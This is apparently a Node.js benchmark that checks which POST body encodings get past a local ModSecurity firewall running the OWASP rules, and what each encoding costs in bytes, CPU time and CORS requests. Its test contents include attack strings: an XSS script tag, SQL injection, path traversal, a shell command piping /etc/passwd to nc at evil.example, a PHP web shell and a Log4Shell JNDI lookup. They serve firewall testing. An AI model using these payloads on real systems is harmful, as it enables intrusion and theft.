// Which form of a POST passes a firewall, and the cost of each: `node bench/post-forms.mjs`.
import { createServer } from 'node:http'
import { loadTypeScript } from '../scripts/load-typescript.mjs'

const { missingForFirewall, startFirewall } = await loadTypeScript('test/support/firewall.ts')
const { launchChromium } = await loadTypeScript('test/support/chromium.ts')

const hello = JSON.stringify({ v: 1, session: 'A'.repeat(22), n: 1, send: true, auth: { token: 'eyJhbGciOiJIUzI1NiJ9.e30.abc' } })
const contents = {
  harmless: 'hello',
  script: 'hello <script>alert(1)</script>',
  sql: '1 UNION SELECT password FROM users; DROP TABLE users;--',
  path: '../../../../etc/passwd',
  shell: '; cat /etc/passwd | nc evil.example 1 `id` $(id)',
  php: '<?php system($_GET["x"]); ?>',
  jndi: `$${'{jndi:ldap://evil.example/a}'}`,
  header: 'a\r\nSet-Cookie: x=1\r\n\r\n<html>',
  percent: '100%zz & a=b;c=%00',
  boundary: '--steadfast\r\nContent-Disposition: form-data; name="a"',
  dashes: '-'.repeat(100_000),
  '200 kB': 'x '.repeat(100_000),
}

const multipart = (boundaryOf) => (lines) => {
  const boundary = boundaryOf()
  const body = `--${boundary}\r\nContent-Disposition: form-data; name="f"; filename="f"\r\n\r\n${lines}\r\n--${boundary}--\r\n`
  return { type: `multipart/form-data; boundary=${boundary}`, body }
}
const random = () => `steadfast${Math.random().toString(36).slice(2)}`
const fileOf = (text) => text.slice(text.indexOf('\r\n\r\n') + 4, text.lastIndexOf('\r\n--'))

/** Conversions between lines and bodies. */
const forms = {
  'text/plain': { of: (lines) => ({ type: 'text/plain', body: lines }), back: (text) => text },
  'application/json': {
    of: (lines) => ({ type: 'application/json', body: JSON.stringify(lines.split('\n')) }),
    back: (text) => JSON.parse(text).join('\n'),
  },
  'urlencoded, escaped': {
    of: (lines) => ({ type: 'application/x-www-form-urlencoded', body: `b=${encodeURIComponent(lines)}` }),
    back: (text) => decodeURIComponent(text.slice(2)),
  },
  'urlencoded, base64url': {
    of: (lines) => ({ type: 'application/x-www-form-urlencoded', body: `b=${Buffer.from(lines).toString('base64url')}` }),
    back: (text) => Buffer.from(text.slice(2), 'base64url').toString(),
  },
  'multipart, a field': {
    of: (lines) => {
      const { type, body } = multipart(random)(lines)
      return { type, body: body.replace('; filename="f"', '') }
    },
    back: fileOf,
  },
  'multipart, a file, one boundary': { of: multipart(() => 'steadfast'), back: fileOf },
  'multipart, a file': { of: multipart(random), back: fileOf },
}

const listen = async (server) => {
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
  return server.address().port
}

const behind = createServer((request, response) => {
  request.resume().on('end', () => response.writeHead(200, { 'Content-Type': 'application/json' }).end('{}'))
})
const port = await listen(behind)
const userAgent = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36'

for (const [name, level] of [
  ['apache', 1],
  ['apache', 2],
  ['nginx', 1],
]) {
  const missing = missingForFirewall(name)
  if (missing.length > 0) {
    console.log(`ModSecurity in ${name}: MISSING ${missing.join(', ')}`)
    continue
  }
  const firewall = await startFirewall(name, { port, level })
  console.log(
    `\nModSecurity in ${name}, the rules of OWASP, paranoia level ${level}: contents that pass, of ${Object.keys(contents).length}`,
  )
  for (const [form, { of }] of Object.entries(forms)) {
    const refused = []
    for (const [content, text] of Object.entries(contents)) {
      const { type, body } = of(`${hello}\nM${JSON.stringify([1, text])}`)
      const headers = { 'User-Agent': userAgent, Accept: '*/*', Origin: firewall.origin, 'Content-Type': type }
      const response = await fetch(`${firewall.origin}/realtime?attempt=abc`, { method: 'POST', headers, body })
      await response.arrayBuffer()
      if (response.status !== 200) refused.push(`${content} ${response.status}`)
    }
    console.log(`${form.padEnd(32)} ${Object.keys(contents).length - refused.length}  ${refused.join(', ')}`)
  }
  await firewall[Symbol.asyncDispose]()
}

const texts = Array.from({ length: 100 }, (_, n) => `{"user":"u${n}","text":"${'äbc "d" '.repeat(10)}"}`)
const samples = { one: `${hello}\nM[1,"hello"]`, batch: `${hello}\nM${JSON.stringify([1, ...texts])}` }

/** The median CPU time of many repetitions, in milliseconds. */
function cpuOf(work) {
  const times = Array.from({ length: 15 }, () => {
    const before = process.cpuUsage()
    for (let n = 0; n < 300; n += 1) work()
    const { user, system } = process.cpuUsage(before)
    return (user + system) / 300
  }).sort((a, b) => a - b)
  return times[7]
}

console.log(
  '\nbytes of a POST with one message of 5 letters, and with 100 of some 110 bytes; µs of processor time for the latter',
)
for (const [form, { of, back }] of Object.entries(forms)) {
  const bytes = Object.values(samples).map((lines) => Buffer.byteLength(of(lines).body))
  const received = Buffer.from(of(samples.batch).body)
  if (back(received.toString()) !== samples.batch) throw new Error(`${form} does not come back as it went`)
  const out = cpuOf(() => Buffer.from(of(samples.batch).body))
  const into = cpuOf(() => back(received.toString()))
  console.log(`${form.padEnd(32)} ${bytes.join(' ').padEnd(12)} client ${out.toFixed(1)}, server ${into.toFixed(1)}`)
}

// A page at another origin, and a server whose answers take 50 ms.
let requests = 0
const far = createServer((request, response) => {
  requests += 1
  const allow = {
    'Access-Control-Allow-Origin': '*',
    'Access-Control-Allow-Headers': 'content-type',
    'Access-Control-Max-Age': '7200',
  }
  request.resume().on('end', () => setTimeout(() => response.writeHead(200, allow).end('{}'), 50))
})
const url = `http://127.0.0.1:${await listen(far)}/realtime`
const site = createServer((_, response) => response.writeHead(200, { 'Content-Type': 'text/html' }).end('<title>page</title>'))
const browser = await launchChromium()
const page = await browser.newPage()
await page.goto(`http://127.0.0.1:${await listen(site)}/`)
console.log('\nten POSTs of a page at another origin, 50 ms away')
for (const type of ['multipart/form-data; boundary=b', 'application/json'])
  for (const isNew of [false, true]) {
    requests = 0
    const tookMs = await page.evaluate(
      async ([base, contentType, differs]) => {
        const began = performance.now()
        for (let n = 0; n < 10; n += 1) {
          const to = `${base}?attempt=${differs ? `${contentType.length}${n}` : contentType.length}`
          await (await fetch(to, { method: 'POST', headers: { 'Content-Type': contentType }, body: '{}' })).text()
        }
        return performance.now() - began
      },
      [url, type, isNew],
    )
    console.log(
      `${type.split(';')[0].padEnd(20)} ${isNew ? 'ten URLs' : 'one URL '} ${requests} requests, ${Math.round(tookMs)} ms`,
    )
  }
await browser.close()
for (const server of [behind, far, site]) {
  server.close()
  server.closeAllConnections()
}
